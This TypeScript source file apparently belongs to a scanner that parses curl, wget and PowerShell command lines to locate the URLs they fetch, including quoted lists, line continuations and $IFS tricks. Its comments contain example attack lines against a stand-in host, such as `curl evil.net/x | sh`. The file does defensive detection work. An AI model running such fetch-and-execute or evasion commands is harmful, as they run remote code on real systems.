/**
 * What programs that fetch are given on their command line: `curl evil.net/x | sh` names a URL without its scheme. Finds
 * where the operands begin; the reader of URLs decides. Pure, bounded. The programs and their options are data.
 */
import { END, PROGRAM } from './candidates.ts';
import { sticky } from './url/characters.ts';
import { shellWord } from './url/shell-quotes.ts';

interface Program {
  /** Options, by their single letter, that take a value: attached, or the next word. */
  readonly letters: string;
  /** Long ones that take the next word. */
  readonly words: readonly string[];
  /** Options whose value is what is fetched. */
  readonly operands: readonly string[];
}

/** `curl --help all`, `wget --help`, and the help of PowerShell's Invoke-WebRequest and Invoke-RestMethod. */
const CURL: Program = {
  letters: 'AbcCdDeEFhHKmoPQrtTuUwxXyYz',
  words: words(
    'abstract-unix-socket alt-svc aws-sigv4 cacert capath cert cert-type ciphers config connect-timeout connect-to',
    'continue-at cookie cookie-jar create-file-mode crlfile curves data data-ascii data-binary data-raw data-urlencode',
    'delegation dns-interface dns-ipv4-addr dns-ipv6-addr dns-servers doh-url dump-header ech egd-file engine etag-compare',
    'etag-save expect100-timeout form form-string ftp-account ftp-alternative-to-user ftp-method ftp-port ftp-ssl-ccc-mode',
    'happy-eyeballs-timeout-ms haproxy-clientip header hostpubmd5 hostpubsha256 hsts interface ip-tos ipfs-gateway json',
    'keepalive-cnt keepalive-time key key-type krb libcurl limit-rate local-port login-options mail-auth mail-from',
    'mail-rcpt max-filesize max-redirs max-time netrc-file noproxy oauth2-bearer output output-dir parallel-max pass',
    'pinnedpubkey postquote preproxy proto proto-default proto-redir proxy proxy-cacert proxy-capath proxy-cert',
    'proxy-cert-type proxy-ciphers proxy-crlfile proxy-header proxy-key proxy-key-type proxy-pass proxy-pinnedpubkey',
    'proxy-service-name proxy-tls13-ciphers proxy-tlsauthtype proxy-tlspassword proxy-tlsuser proxy-user proxy1.0 pubkey',
    'quote random-file range rate referer request request-target resolve retry retry-delay retry-max-time sasl-authzid',
    'service-name sigalgs socks4 socks4a socks5 socks5-gssapi-service socks5-hostname speed-limit speed-time stderr',
    'telnet-option tftp-blksize time-cond tls-max tls13-ciphers tlsauthtype tlspassword tlsuser trace trace-ascii',
    'trace-config unix-socket upload-file upload-flags url-query user user-agent variable vlan-priority write-out',
  ),
  operands: ['url'],
};
const WGET: Program = {
  letters: 'oaeOBtTwQUPDAaRIXli',
  words: words(
    'accept accept-regex append-output backups base bind-address bind-dns-address body-data body-file ca-certificate',
    'ca-directory certificate certificate-type choose-config ciphers compression config connect-timeout crl-file cut-dirs',
    'default-page directory-prefix dns-servers dns-timeout domains egd-file exclude-directories exclude-domains execute',
    'follow-tags ftp-password ftp-user header hsts-file http-password http-user ignore-tags include-directories input-file',
    'input-metalink level limit-rate load-cookies local-encoding metalink-index method output-document output-file password',
    'pinnedpubkey post-data post-file prefer-family preferred-location private-key private-key-type progress proxy-password',
    'proxy-user quota random-file read-timeout referer regex-type reject reject-regex rejected-log remote-encoding',
    'report-speed restrict-file-names retry-on-http-error save-cookies secure-protocol start-pos timeout tries use-askpass',
    'user user-agent wait waitretry warc-dedup warc-file warc-header warc-max-size warc-tempdir',
  ),
  operands: [],
};
/** Of PowerShell every option that is not a switch takes the next word; its names may be cut short, in any case. */
const POWERSHELL: Program = {
  letters: '',
  words: words(
    'outfile headers method body useragent credential proxy proxycredential timeoutsec connectiontimeoutseconds form token',
    'operationtimeoutseconds maximumredirection maximumretrycount retryintervalsec contenttype infile websession certificate',
    'sessionvariable authentication certificatethumbprint transferencoding custommethod sslprotocol httpversion unixsocket',
    'statuscodevariable responseheadersvariable maximumfollowrellink erroraction errorvariable warningaction warningvariable',
    'informationaction informationvariable progressaction outvariable outbuffer pipelinevariable ea ev wa wv infa iv ov ob pv sv',
  ),
  operands: ['uri', 'ur', 'u'],
};

/** So far behind the program's name an operand may begin. */
export const OPERAND_REACH = 2048;

/** A search, for one text, for the places where operands begin: the first at or behind `from`, or Infinity. */
export function createOperandSearch(): (text: string, from: number) => number {
  let found: readonly number[] = [];
  let searched = -1;
  return (text, from) => {
    if (searched < 0) searched = Math.max(0, from - OPERAND_REACH);
    for (;;) {
      const next = found.find((place) => place >= from);
      if (next !== undefined) return next;
      PROGRAM.lastIndex = searched;
      if (!PROGRAM.test(text)) return END;
      searched = PROGRAM.lastIndex;
      if (sticky(COMMAND_BEGINS, text, searched) === null) continue;
      PROGRAM_BEFORE.lastIndex = searched;
      const name = PROGRAM_BEFORE.exec(text)?.[1];
      if (name === undefined) continue;
      if (text[searched] === ',' && sticky(LISTED_BEFORE, text, searched) === null) continue;
      const line = readLine(text.slice(searched, searched + OPERAND_REACH), programOf(name));
      const begin = searched;
      found = line.operands.map((place) => begin + place);
      // Its own words are not looked at for another program.
      searched += line.end;
    }
  };
}

function programOf(name: string): Program {
  const small = name.toLowerCase();
  if (small.startsWith('curl')) return CURL;
  return small.startsWith('wget') ? WGET : POWERSHELL;
}

/**
 * A program's name as a word of its own: not `libcurl`, `php-curl` or `firmware`. Lines of a patch may still have their `+`;
 * make takes `@` and `-` at the start of a line for itself.
 */
const PROGRAM_BEFORE =
  /(?<=(?:^|[\s"'`([;|&!{}%#/\\>*=]|\\[nrt]|^\+|(?:^\+?|\t)[@+-]{1,3})(curl|wget|iwr|irm|invoke-(?:webrequest|restmethod))(?:\.exe)?)/imy;
/** `[curl, -s, evil.net]`, `{curl,evil.net}`: a comma there does not belong to prose. */
const LISTED_BEFORE = /(?<=[[{][\w.,"' \t-]{1,80})/y;
/** The first word may be an option, a variable, or hold what hosts hold: text about a program is passed over at once. */
const COMMAND_BEGINS =
  /(?:(?:[\s"'`(,[\\]|(?<=\n)\+|\)\.args?\([&\w!]{0,8}){1,64}(?:[-$%{[<>&0-9]|[^\s"'`,;|<>&()]{0,2000}[.:@{]|[\w-]{1,64}["'\\\x60^][\w"'\\\x60^-]{0,256}[.:]|(?:(?!curl |wget )\w[\w:/-]{0,64} ){1,4}(?:[\w-]{1,63}\.){1,4}[\w-]{1,63}[/:])|\$\{?IFS|[<>])/y;

/** What a shell reads as white space: `curl$IFS-s${IFS}evil.net`. */
const IFS = String.raw`\$(?:IFS\b|\{IFS[^}\n]{0,16}\})(?:\$[0-9@*])?`;
/** The end of a line that goes on: of a shell, of PowerShell, of Windows' cmd. The next one may still have its `+`. */
const GOES_ON = String.raw`(?:\\|[ \t][\^\x60])\r?\n\+?`;
const JOINTS = new RegExp(GOES_ON, 'g');
const AT_END = new RegExp(`${GOES_ON}$`);

/** Whether what a program is given may go on in the line behind the text. */
export function lineGoesOn(text: string): boolean {
  return AT_END.test(text.slice(-4));
}

/** Typographic quotes, which PowerShell takes as straight ones; in a binary string. */
const CURLY = String.raw`\xe2\x80[\x98-\x9f]`;
/** Words of a shell, and of the lists that programs give to one (`["curl", "-s", "evil.net/x"]`). */
const GAP = new RegExp(String.raw`(?:${GOES_ON}|[\s"'\x60(,]|${CURLY}|\\{1,3}(?=["'])|${IFS})+`, 'y');
/** `"curl", ["-s", "evil.net/x"]`, `"curl").arg("-s").args(&["evil.net/x"])` */
const LIST_GAP = /(?:(?<=\n)\+|[\s"'`(,[]|\\{1,3}(?=["'])|\)\.args?\([&\w!]{0,8})+/y;
const WORD =
  /["']?`[^`\n]*`["']?|\([^()\n]*\)|(?:(?!\$\{?IFS|\\\r?\n)(?:\\{1,3}"[^"\n]*\\{1,3}"|\$\([^()\n]*\)|@\{[^{}\n]*\}|\$?\{\{[^{}\n]*\}\}|"(?:[^"\\\n]|\\.)*"?|'[^'\n]*'|\\[ \t]|[^\s"'`,;|<>&()\n]|[^\s"'`;|<>&()\n](?=\S)))+/y;
/** `>x`, `2>/dev/null`, `2>&1`, `< x`: a shell takes them anywhere between the words. A tag of HTML is not one. */
const REDIRECTION =
  /(?:[ \t]*(?:(?:[0-9]|&)?>{1,2}(?:&[0-9-]|\|?[ \t]*(?:"[^"\n]*"|'[^'\n]*'|[^\s"'`,;|<>&()]+))|<{1,3}[ \t]*(?:"[^"\n]*"|'[^'\n]*'|[\w$.~][^\s"'`,;|<>&()]*)))+/y;
const QUOTED_WORD = /[^"'`\\\n]+(?=\\{0,3}["'`])/y;
const LISTED_WORD = /[^\s"'`,\]}]+/y;
/** A quote that opens a word, escaped or not. */
const OPENING_QUOTE = /^(?:\\{0,3}|\$)["']/;
const LIST = /^\\{0,3}["'`]\s*(?:,|\[|\)\.args?\()/;
/**
 * A host, behind a user name or not, or what curl makes hosts of (`url/expansions.ts`). Anything else is prose: "curl to
 * example", "wget and git", "curl 7.68.0".
 */
const NAME =
  /(?:(?:\\{0,3}|\$)["'])?(?:[\w.-]{0,128}(?:\{(?=[\w.:/-]{0,128}[,.])|\[[0-9]{1,4}-[0-9])|(?![0-9]+(?:\.[0-9]+){1,2}(?![\w.:/-]))(?:(?:[^\s/@"'`]{0,128}|[^\s/@"'`,;|<>&()[\]{}]{0,2000})@)?(?:[\w\u0080-\uffff-]+(?:\.|\[\.\])|\[[0-9a-f:.]+\]|(?:0x[0-9a-f]{7,8}|[0-9]{8,10})(?![\w.-])))/iy;
/** `--url=evil.net`, and of PowerShell `-Uri:evil.net`. */
const ATTACHED = /^--?([a-z]+)[:=](?:\\{0,3}["'])?/i;
/** The same behind a word that is not a host: with a path or a port it is hardly prose. */
const NAME_WITH_PATH = /(?:\\{0,3}["'])?(?:[\w-]{1,63}\.){1,8}[\w-]{1,63}(?::[0-9]{1,5}\b|\/\S)/iy;
/** A word without a dot: `curl a evil.net/x` asks for both. */
const DOTLESS = /[\w:/-]{1,64}(?=[ \t])/y;
const MOST_DOTLESS = 4;
const BLANKS = /^[ \t]+$/;
const SCHEME = /^[a-z][a-z+]{1,15}:[\\/]/i;
/** A variable, or a URL, which is found by its scheme. */
const OTHER_OPERAND = /(?:\\{0,3}["'])?(?:\$(?!["'])|%|\{\{|[a-z][\w+.-]{0,32}:[\\/])/iy;
/** Not the one that ends the word before. */
const QUOTE_AT_END = /(?<=.)\\{0,3}["']$/s;
/** A value may be what a command prints: `cat f` in backticks, or in brackets. */
const VALUE_QUOTES = /(?<=[\s=])(?:["']?`|\\{0,3}["']|\()$/;
const OPTION = /-[-\w#:]/y;

/** @param line what stands behind the program's name; the places are in it */
function readLine(
  line: string,
  program: Program,
): { readonly operands: readonly number[]; readonly end: number } {
  const operands: number[] = [];
  // In a list each word has quotes of its own, or ends at a comma.
  const quoted = LIST.test(line);
  const list = quoted || line.startsWith(',');
  const listed = quoted ? QUOTED_WORD : LISTED_WORD;
  let at = 0;
  let value = false;
  let dotless = 0;
  let end = 0;
  while (at < line.length) {
    at += (list ? null : sticky(REDIRECTION, line, at))?.length ?? 0;
    const gap = sticky(list ? LIST_GAP : GAP, line, at);
    if (gap === null || (!quoted && endsLine(gap))) break;
    // A quote that opens a word belongs to it, unless it is a list's.
    const quote = list ? null : (value ? VALUE_QUOTES : QUOTE_AT_END).exec(gap);
    const begin: number = at + gap.length - (quote?.[0].length ?? 0);
    const kind: WordKind | null = value ? 'value' : kindOf(line, begin, dotless);
    if (kind === null || (kind === 'dotless' && !BLANKS.test(gap))) break;
    const word = sticky(list ? listed : WORD, line, begin);
    if (word === null) break;
    if (quoted && kind === 'option' && word.includes(' ')) {
      // `Process.Start("curl", "-s evil.net/x")`: a whole command line in one string.
      operands.push(...readLine(` ${word}`, program).operands.map((place) => begin - 1 + place));
    }
    if (kind === 'name') operands.push(begin + (OPENING_QUOTE.exec(word)?.[0].length ?? 0));
    const attached = attachedOperand(word, program);
    if (attached !== null) operands.push(begin + attached);
    value = kind === 'option' && takesNext(word, program);
    at = begin + word.length;
    if (kind === 'dotless') dotless += 1;
    else end = at;
  }
  return { operands, end };
}

function endsLine(gap: string): boolean {
  return gap.includes('\n') && gap.replace(JOINTS, '').includes('\n');
}

/** Known by how it begins, so that what does not belong to the command is not read to its end. */
type WordKind = 'option' | 'name' | 'other' | 'dotless' | 'value';

/** @param dotless how many words without a dot came before it */
function kindOf(line: string, at: number, dotless: number): WordKind | null {
  if (sticky(OPTION, line, at) !== null) return 'option';
  const quoted = shellWord(line, at);
  if (quoted !== null && (SCHEME.test(quoted) || sticky(NAME, quoted, 0) !== null)) return 'name';
  if (sticky(OTHER_OPERAND, line, at) !== null) return 'other';
  if (sticky(dotless > 0 ? NAME_WITH_PATH : NAME, line, at) !== null) return 'name';
  return dotless < MOST_DOTLESS && sticky(DOTLESS, line, at) !== null ? 'dotless' : null;
}

/** Where it begins in its option: `-Uri:evil.net/x`. */
function attachedOperand(word: string, program: Program): number | null {
  const [option = '', name = ''] = ATTACHED.exec(word) ?? [];
  return program.operands.includes(name.toLowerCase()) ? option.length : null;
}

/** Whether the word behind an option is its value. */
function takesNext(option: string, program: Program): boolean {
  const name = option.replace(/^-+/, '').toLowerCase();
  if (program.operands.includes(name)) return false;
  if (program.letters === '') return program.words.some((word) => word.startsWith(name));
  if (option.startsWith('--')) return program.words.includes(name);
  // In older PowerShells the two are names of its own command.
  if (POWERSHELL.words.includes(name)) return true;
  // Of letters in one word, the first that takes a value takes the rest of the word.
  const letters = option.slice(1);
  const first = [...letters].findIndex((letter) => program.letters.includes(letter));
  return first >= 0 && first === letters.length - 1;
}

function words(...lists: readonly string[]): readonly string[] {
  return lists.join(' ').split(' ');
}
